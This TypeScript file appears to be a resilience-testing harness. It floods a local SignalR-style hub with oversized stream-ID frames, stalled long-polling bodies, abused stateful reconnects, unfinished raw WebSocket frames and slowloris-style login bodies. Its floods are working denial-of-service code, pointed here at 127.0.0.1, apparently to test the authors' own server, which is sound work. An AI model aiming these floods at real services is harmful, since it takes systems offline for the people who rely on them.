import { sleep } from "../campaign.ts";
import type { Flood } from "./call-floods.ts";
import { addressOf, inLoops, openSocket, trickle } from "./raw.ts";

/** JSON messages of the hub end with it. */
const recordEnd = "\x1e";
const megabyte = 1024 * 1024;
/** What a socket may have under way, so that the flooder itself does not grow. */
const bufferedMax = 4 * megabyte;

async function negotiated(port: number, query = ""): Promise<string | null> {
  const url = `http://127.0.0.1:${port}/Hub/negotiate?negotiateVersion=1${query}`;
  const answer = await fetch(url, { method: "POST" }).catch(() => null);
  if (answer === null || !answer.ok) return null;
  const { connectionToken } = (await answer.json()) as { connectionToken: string };
  return connectionToken;
}

interface Line {
  readonly socket: WebSocket;
  /** True until it is closed. */
  isOpen(): boolean;
}

/** Opens a WebSocket of the hub and shakes hands; null when it is refused. */
async function openLine(url: string, greeting: string | null): Promise<Line | null> {
  const socket = new WebSocket(url);
  const isOpened = await new Promise<boolean>((resolve) => {
    socket.addEventListener("open", () => resolve(true));
    socket.addEventListener("error", () => resolve(false));
  });
  if (!isOpened) return null;
  if (greeting !== null) socket.send(greeting + recordEnd);
  return { socket, isOpen: () => socket.readyState === WebSocket.OPEN };
}

const greeting = (version: number) => JSON.stringify({ protocol: "json", version });

/** Frames of a megabyte whose calls name thousands of streams each. */
export async function streamIds({ target, senders, isStopped, count }: Flood): Promise<void> {
  const ids = Array.from({ length: 5000 }, (_, n) => n.toString(36));
  const call = { type: 1, invocationId: "1", target: "Join", arguments: [1], streamIds: ids };
  const record = JSON.stringify(call) + recordEnd;
  const frame = record.repeat(Math.floor(megabyte / record.length));
  await inLoops(senders.length, isStopped, async () => {
    const line = await openLine(`ws://127.0.0.1:${target.port}/Hub`, greeting(1));
    if (line === null) return count("refused");
    while (!isStopped() && line.isOpen()) {
      if (line.socket.bufferedAmount < bufferedMax) {
        line.socket.send(frame);
        count("frame");
      }
      await sleep(5);
    }
    line.socket.close();
  });
}

/** Many bodies of a megabyte at once on each token of long polling, some of which never end. */
export async function postBodies({ target, senders, isStopped, count }: Flood): Promise<void> {
  const { port } = target;
  const bodiesPerToken = 30;
  const call = `{"type":1,"target":"Join","arguments":[${target.gameId}]}${recordEnd}`;
  const body = call.repeat(Math.floor(megabyte / call.length));
  await inLoops(Math.ceil(senders.length / bodiesPerToken), isStopped, async (loop) => {
    const token = await negotiated(port);
    if (token === null) return count("refused");
    const path = `/Hub?id=${encodeURIComponent(token)}`;
    const url = `http://127.0.0.1:${port}${path}`;
    const poll = () => fetch(url).then((answer) => answer.text());
    await poll();
    await fetch(url, { method: "POST", body: greeting(1) + recordEnd });
    const head = `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: ${body.length}\r\n\r\n`;
    const stalled = Array.from({ length: bodiesPerToken }, (_, n) =>
      openSocket(port, addressOf(n + loop), head + body.slice(0, -1)),
    );
    const polling = poll().catch(() => "");
    await Promise.all(
      senders.slice(0, bodiesPerToken).map(async (sender) => {
        count(await sender.send({ method: "POST", path, body }));
      }),
    );
    for (const socket of stalled) socket.destroy();
    await fetch(url, { method: "DELETE" }).catch(() => null);
    await polling;
  });
}

/** Lines that are taken over again and again, each with calls whose answers only the next one acknowledges. */
export async function fillers({ target, senders, isStopped, count }: Flood): Promise<void> {
  const { port } = target;
  const perLine = 500;
  const call = { type: 1, invocationId: "1", target: "Unknown", arguments: [] };
  const calls = (JSON.stringify(call) + recordEnd).repeat(perLine);
  await inLoops(senders.length, isStopped, async () => {
    const token = await negotiated(port, "&useStatefulReconnect=true");
    if (token === null) return count("refused");
    const url = `ws://127.0.0.1:${port}/Hub?id=${encodeURIComponent(token)}`;
    let line = await openLine(url, greeting(2));
    for (let lines = 1; line !== null && !isStopped(); lines++) {
      line.socket.send(calls);
      await sleep(100);
      const next = await openLine(url, null);
      line.socket.close();
      line = next;
      count(line === null ? "dropped" : "line");
      const told = [
        { type: 9, sequenceId: lines * perLine + 1 },
        { type: 8, sequenceId: lines * perLine },
      ];
      for (const message of told) line?.socket.send(JSON.stringify(message) + recordEnd);
    }
    line?.socket.close();
  });
}

/** Sockets that begin a frame of nearly a megabyte, send most of it and never end it. */
export async function halfFrames({ target, senders, isStopped, count }: Flood): Promise<void> {
  const { port } = target;
  const length = megabyte - 1000;
  const frame = Buffer.alloc(length);
  frame[0] = 0x81;
  frame[1] = 0xff;
  frame.writeUInt32BE(length, 6);
  const hello = Buffer.from(greeting(1) + recordEnd);
  const handshake = Buffer.concat([Buffer.from([0x81, 0x80 | hello.length, 0, 0, 0, 0]), hello]);
  await trickle(senders.length * 10, isStopped, (n) => {
    count("socket");
    const socket = openSocket(
      port,
      addressOf(n),
      `GET /Hub HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    );
    socket.once("data", () => socket.write(Buffer.concat([handshake, frame.subarray(0, -1000)])));
    return socket;
  });
}

/** Bodies of calls that come a byte at a time. */
export async function slowBodies({ target, senders, isStopped, count }: Flood): Promise<void> {
  await trickle(senders.length * 10, isStopped, (n) => {
    count("socket");
    return openSocket(
      target.port,
      addressOf(n),
      "POST /api/Token/Login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n{",
    );
  });
}
